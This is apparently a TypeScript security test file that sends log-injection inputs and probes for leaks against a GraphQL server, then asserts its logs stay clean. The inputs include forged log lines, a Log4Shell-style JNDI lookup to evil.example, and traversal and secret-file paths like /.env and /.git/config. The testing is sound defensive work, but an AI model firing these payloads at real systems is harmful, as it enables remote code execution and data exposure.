import { randomUUID } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { describe, expect, it } from 'vitest';
import { eventually } from '../support/eventually.js';
import { password } from '../support/factories.js';
import { transports } from '../support/transports.js';
import { privateCanary } from './support/canaries.js';
import { askFrom } from './support/from.js';
import { insideOf } from './support/leaks.js';
import { open, target, tokenAs } from './support/target.js';
import { openWire } from './support/wire.js';

const logs = () => Promise.all(target().logs.map(({ path }) => readFile(path, 'utf8')));

/** Attack 26: what would make a second line of a log, or colour it, or pretend to be another. */
const lines = [
  'a\n{"level":30,"msg":"forged"}',
  'a\r\nforged',
  '\u001b[31mred',
  '\u2028forged',
  '$\u007bjndi:ldap://evil.example/a}',
  '%0a%0dforged',
  '"}\n{"level":60',
];

describe('attack 26: logs', () => {
  it.each(lines)('attack 26: %j stays within its line', async (text) => {
    const headers = {
      'user-agent': encodeURIComponent(text),
      'x-request-id': encodeURIComponent(text),
      referer: encodeURIComponent(text),
    };
    await askFrom('127.0.0.1', open(), `query Named { __typename } # ${text}`, { [text.slice(0, 20)]: text }, headers);
    await transports.HTTP(
      open(),
      `mutation ($e: EmailAddress!) { signIn(input: { email: $e, password: "wrong" }) { userErrors { code } } }`,
      { e: 'log@example.com' },
    );
    await fetch(`${open().url}/${encodeURIComponent(text)}`);
    await using wire = await openWire(open());
    wire.send({ type: 'connection_init', payload: { authorization: `Bearer ${text}` } });
    await wire.closed;
  });

  it('attack 26: each line is one object of JSON', async () => {
    for (const log of await logs()) {
      const strange = log
        .split('\n')
        .filter(
          (line) =>
            line !== '' &&
            !isJson(line) &&
            !/^(\(node:|\(Use `node|Frontdesk|Console|GraphiQL|API|Health|Database|Broker|\s)/.test(line),
        );
      expect(strange).toEqual([]);
    }
  });

  it('attack 26: no forged line has got in', async () => {
    for (const log of await logs()) expect(log).not.toMatch(/^forged|"msg":"forged"/m);
  });

  it('attack 26: no secret, no token, no password, nobody’s name or words', async () => {
    for (const path of ['/graphql?query={__typename}&token=', '/console/', '/uploads/', '/unsubscribe/'])
      await fetch(`${open().url}${path}${privateCanary}`);
    // The line of a request is written when it is over, which is after its answer.
    const last = `/nothing-${randomUUID()}`;
    await fetch(`${open().url}${last}`);
    await eventually(async () => expect((await logs()).join('')).toContain(last));
    const tokens = await Promise.all((['guest', 'staff', 'owner', 'admin'] as const).map((role) => tokenAs(role)));
    const secrets = [
      privateCanary,
      '$argon2',
      password,
      ...Object.values(target().secrets),
      target().ours.key,
      target().theirs.key,
      ...tokens.map((token) => `${token}`.split('.')[2] ?? ''),
      'fdr_',
      'correct horse',
      '4711:the-token-of-the-bot',
      'sk_test_of_the_tests',
    ];
    for (const log of await logs()) for (const one of secrets) expect(log.includes(one), one).toBe(false);
  });

  it('attack 26: whatever was tried, nothing has failed that nobody expected', async () => {
    for (const log of await logs()) {
      const bugs = log.split('\n').filter((line) => isJson(line) && [50, 60].includes(JSON.parse(line).level));
      expect(bugs.map((line) => line.slice(0, 1_500))).toEqual([]);
    }
  });

  it('attack 26: an answer to nonsense says nothing of our inside, on any path', async () => {
    for (const path of [
      '/',
      '/nothing',
      '/graphql',
      '/graphql?query={',
      '/graphql?query={a}&variables=x',
      '/console/x.js',
      '/uploads/x',
      '/webhooks/telegram',
      '/webhooks/payments/stripe',
      '/metrics/x',
      '/.env',
      '/.git/config',
      '/package.json',
      '/dist/main.js',
      '/console/../../package.json',
      '/console/%2e%2e/%2e%2e/package.json',
    ])
      for (const method of ['GET', 'POST', 'PUT', 'DELETE', 'OPTIONS']) {
        const answer = await fetch(`${open().url}${path}`, { method, redirect: 'manual' });
        const text = await answer.text();
        expect([path, method, answer.status < 500]).toEqual([path, method, true]);
        if (
          !answer.headers.get('content-type')?.includes('html') &&
          !answer.headers.get('content-type')?.includes('javascript')
        )
          expect([path, insideOf(text)]).toEqual([path, undefined]);
        expect(answer.headers.get('x-powered-by')).toBeNull();
        expect(text).not.toContain('"dependencies"');
      }
  });
});

it('attack 26: after all of it, the same processes are there and answer', async () => {
  for (const url of [...target().nodes, ...target().strict]) expect((await fetch(`${url}/readyz`)).status).toBe(200);
  for (const { pid } of target().logs) expect(() => process.kill(pid, 0)).not.toThrow();
});

function isJson(line: string): boolean {
  try {
    return typeof JSON.parse(line) === 'object';
  } catch {
    return false;
  }
}
